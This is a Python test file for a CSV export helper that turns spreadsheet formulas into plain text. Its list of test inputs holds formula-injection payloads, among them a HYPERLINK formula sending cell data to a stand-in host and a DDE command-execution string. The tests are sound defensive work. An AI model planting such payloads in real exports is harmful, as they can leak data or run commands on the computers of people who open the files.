"""Exports that a spreadsheet opens: nothing in them is a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from casier.kernel.csv_cells import csv_text, safe_cell

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1",
    "\r=1",
    "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "＝1", "＋1", "－1", "＠1",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Claire Lefèvre", "", "a=b", "l’été", "3", 3, None])
def test_what_is_no_formula_stays(value: object) -> None:
    assert safe_cell(value) == ("" if value is None else str(value))


@given(st.lists(st.tuples(st.text(max_size=20), st.text(max_size=20)), max_size=5))
def test_a_file_says_what_was_put_in(rows: list[tuple[str, str]]) -> None:
    rows = [(one.replace("\x00", ""), two.replace("\x00", "")) for one, two in rows]
    text = csv_text(["nom", "adresse"], rows)
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert read == [["nom", "adresse"], *[[safe_cell(cell) for cell in row] for row in rows]]
    assert not any(cell[:1] in set("=+-@\t\r\n") for row in read for cell in row if cell)
